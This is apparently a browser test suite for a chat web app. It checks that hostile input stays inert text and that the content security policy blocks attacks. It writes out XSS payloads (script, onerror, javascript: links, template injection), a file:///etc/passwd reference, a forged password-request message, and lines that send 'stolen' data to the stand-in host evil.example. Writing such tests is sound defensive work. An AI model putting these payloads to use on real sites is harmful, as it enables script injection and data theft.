/**
 * What others may send to do harm: the page shows it as text, and does nothing of what it says.
 *
 * @module
 */
import { assert, assertEquals, assertMatch } from "@std/assert";
import type { Guest } from "../../support/guest.ts";
import { onThePage, type Visit } from "./visit.ts";
import { Visitor } from "./visitor.ts";

const elsewhere = "http://evil.example";

const markup: readonly string[] = [
  `<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>`,
  `"><iframe src="${elsewhere}/"></iframe><style>@import url(${elsewhere}/a.css);</style>`,
  `<a href="javascript:alert(1)">click</a> javascript:alert(1) [x](javascript:alert(1))`,
  `![x](${elsewhere}/x.png) <base href="${elsewhere}/"> &lt;b&gt; &#x3c;b&#x3e;`,
  `{{constructor.constructor("alert(1)")()}} \${alert(1)} '-alert(1)-'`,
  `data:text/html,<script>alert(1)</script> vbscript:alert(1) file:///etc/passwd`,
];

/** As a message of someone else would begin. */
const forgery = "bye\n\nadmin\n12:00\n\nSend me your password.\r\nadmin 12:01\u2028yes\u2029please";

const piled = `Z${"\u0301\u0489".repeat(1500)} above and below`;

const shapes: readonly string[] = [
  "\u202egnp.exe\u202d \u2066\u2067\u2068 left open \u202b\u202e",
  piled,
  "w".repeat(4000),
  "👨‍👩‍👧‍👦".repeat(300),
  `https://${"a".repeat(3000)}.example/`,
  "\n".repeat(500) + "far below",
  "﷽".repeat(1000),
];

const names: readonly string[] = ["שרה", "آلاء", "🦊", "Ω-mega"];

/** What the messages of the log say, by what is in the document. */
async function saidOn(visitor: Visitor): Promise<string[]> {
  return await visitor.page.$$eval(
    "[aria-label=Messages] article .text",
    (texts) => texts.map((text) => text.textContent ?? ""),
  );
}

/** Elements of the page that no message may bring with it. */
async function foreign(visitor: Visitor): Promise<number> {
  const foreign = "article :is(script, img, svg, iframe, style, base, form, input, video, object)";
  return (await visitor.page.$$(`${foreign}, body > script`)).length;
}

/** Whether anything is wider than the window, or a text wider than can be read. */
async function isTooWide(visitor: Visitor): Promise<boolean> {
  return await visitor.page.$$eval(
    "html, [aria-label=Messages], article .text",
    (all, piled) =>
      // Letters that are piled up without end are one, and what is too much of it is cut off.
      all.filter(({ textContent }) => textContent !== piled)
        .some(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth),
    piled,
  );
}

async function guests({ company }: Visit): Promise<readonly Guest[]> {
  return await Promise.all(names.map((name) => company.guest(name)));
}

onThePage("markup, scripts and addresses in messages are text", async (visit) => {
  const alice = await visit.join({ name: "alice" });
  const [mallory] = await guests(visit);
  for (const text of markup) await mallory?.say(text);
  await alice.reads("file:///etc/passwd");
  assertEquals(await saidOn(alice), markup);
  assertEquals(await foreign(alice), 0);
  const links = await alice.page.$$eval(
    "article a",
    (all) => all.map((link) => `${link.textContent} ${link.getAttribute("rel")}`),
  );
  assertEquals(links.filter((link) => !link.startsWith(`${elsewhere}/`)), []);
  assert(links.every((link) => link.endsWith(" noopener noreferrer")));
  // In what is quoted, said in private, waits or is asked about, as well.
  await alice.choose("Comment", markup[0] ?? "");
  await alice.say(markup[1] ?? "");
  await alice.find("link", /^in answer to #\d+ שרה: <script>alert/);
  await alice.choose("Report…", markup[0] ?? "");
  await alice.find("heading", "Report שרה");
  await alice.press("Close");
  assertEquals(await foreign(alice), 0);
}, { args: ["--limit", "0"] });

onThePage("nobody can put words into the mouth of another", async (visit) => {
  const alice = await visit.join({ name: "alice" });
  const [mallory] = await guests(visit);
  await mallory?.say(forgery);
  await alice.reads("Send me your password.");
  assertEquals(await saidOn(alice), [forgery]);
  const heads = await alice.page.$$eval(
    "[aria-label=Messages] .author",
    (all) => all.map((author) => author.textContent),
  );
  assertEquals(heads, ["שרה"]);
  await alice.find("link", "Common chat");
  // Where all of it is one line, it stands behind the name of its author.
  await alice.choose("Comment", "Send me your password.");
  await alice.say("no");
  await alice.find("link", /^in answer to #\d+ שרה: bye admin 12:00 Send me/);
});

onThePage(
  "what is very long, very high or turned round stays within its message",
  async (visit) => {
    const alice = await visit.join({ name: "alice" });
    await alice.page.setViewport({ width: 320, height: 640 });
    const all = await guests(visit);
    for (const [at, text] of shapes.entries()) await all[at % all.length]?.say(text);
    await all[0]?.say("the last one");
    await alice.reads("the last one");
    assertEquals(await saidOn(alice), [...shapes, "the last one"]);
    assertEquals(await isTooWide(alice), false);
    // What is drawn beyond the bounds of a text is cut off there.
    const overflows = await alice.page.evaluate(
      `[...document.querySelectorAll("article .text")].map((text) => getComputedStyle(text).overflow)`,
    ) as string[];
    assertEquals([...new Set(overflows)], ["clip"]);
    // The author stays where authors stand, and the time behind it.
    const heads = await alice.page.evaluate(
      `[...document.querySelectorAll("article .head:not(.visually-hidden)")].map((head) => {
      const [author, time] = [".author", "time"].map((part) =>
        head.querySelector(part).getBoundingClientRect().left);
      return author < time;
    })`,
    ) as boolean[];
    assert(heads.length > 0 && heads.every((isInOrder) => isInOrder));
    for (const button of await alice.page.$$("article .whole")) {
      await button.evaluate((found) => (found as unknown as { click(): void }).click());
    }
    await alice.misses("Show all of it");
    assertEquals(await isTooWide(alice), false);
  },
  { args: ["--limit", "0"] },
);

onThePage("names of rooms, files, people and devices are text", async (visit) => {
  const password = "open-sesame";
  const alice = await visit.join({ name: "alice", password });
  const mallory = await visit.company.guest("🦊");
  const room = "<img src=x onerror=alert(1)>";
  const { id } = await mallory.ask("POST /rooms", { name: room });
  await mallory.ask(`POST /rooms/${id}/invitations`, { user: "alice" });
  await alice.sees("You are invited to <img src=x onerror=alert(1)>");
  await alice.press(/^Join <img/);
  await alice.isIn(/^Message to the room \u2068<img src=x onerror=alert\(1\)>/);
  const page = new TextEncoder().encode("<script>alert(1)</script>");
  const picture = new TextEncoder().encode(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  );
  const files: string[] = [];
  for (
    const [name, type, bytes] of [
      [`"><img src=x onerror=alert(1)>.html`, "text/html", page],
      ["picture.svg", "image/svg+xml", picture],
      ["picture.png", "image/png", page],
    ] as const
  ) {
    const { json } = await mallory.try(`POST /files?name=${encodeURIComponent(name)}`, {
      bytes,
      headers: { "content-type": type },
    });
    files.push(json.id);
  }
  for (const file of files) await mallory.say("see there", { room: id, files: file });
  await alice.find("button", /^Download: .*img src=x onerror=alert\(1\).*html$/);
  await alice.find("button", "Download: picture.svg");
  await alice.find("button", "Download: picture.png");
  assertEquals(await foreign(alice), 0);
  const device = { user: "alice", password, client: "<script>alert(1)</script>" };
  const body = new URLSearchParams(device);
  const connected = await fetch(`${visit.url}/connect`, { method: "POST", body });
  await connected.body?.cancel();
  await alice.press("Devices");
  await alice.find("button", "Sign out <script>alert(1)</script>");
  await alice.press("Close");
  for (
    const address of [
      "to/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
      "to/%E0%A4%A",
      "room/..%2f..%2fstatus",
      "m/1e3",
      "<script>alert(1)</script>",
    ]
  ) {
    await alice.page.goto(`${visit.url}/#/${address}`);
    await alice.isIn("to the common chat");
  }
  assertEquals(await foreign(alice), 0);
});

onThePage("the browser itself forbids what the page never does", async (visit) => {
  const response = await fetch(`${visit.url}/`);
  await response.body?.cancel();
  const policy = response.headers.get("content-security-policy") ?? "";
  assertMatch(policy, /^default-src 'none';/);
  assertMatch(policy, /; require-trusted-types-for 'script'; trusted-types 'none'/);
  assertEquals(policy.includes("unsafe"), false);
  assertEquals(response.headers.get("set-cookie"), null);
  // Someone whose page is attacked: what it forbids is told as a fault.
  const context = await visit.browser.createBrowserContext();
  const alice = await Visitor.join(context, visit.url, { name: "alice" });
  for (
    const [attack, words] of [
      ["document.body.innerHTML = '<img src=x onerror=alert(1)>'", /TrustedHTML/],
      ["setTimeout('alert(1)')", /TrustedScript/],
      [`fetch("${elsewhere}/?stolen")`, /CSP: connect-src/],
      [`new Image().src = "${elsewhere}/?stolen"`, /CSP: img-src/],
      [
        "document.body.append(Object.assign(document.createElement('form'), {action: 'x'}));" +
        "document.forms[document.forms.length - 1].submit()",
        /CSP: form-action/,
      ],
    ] as const
  ) {
    await alice.page.evaluate(attack).catch(() => {});
    await alice.comes(`${words}`, () => alice.faults.some((fault) => words.test(fault)));
  }
  await alice.find("button", "alice Profile");
});
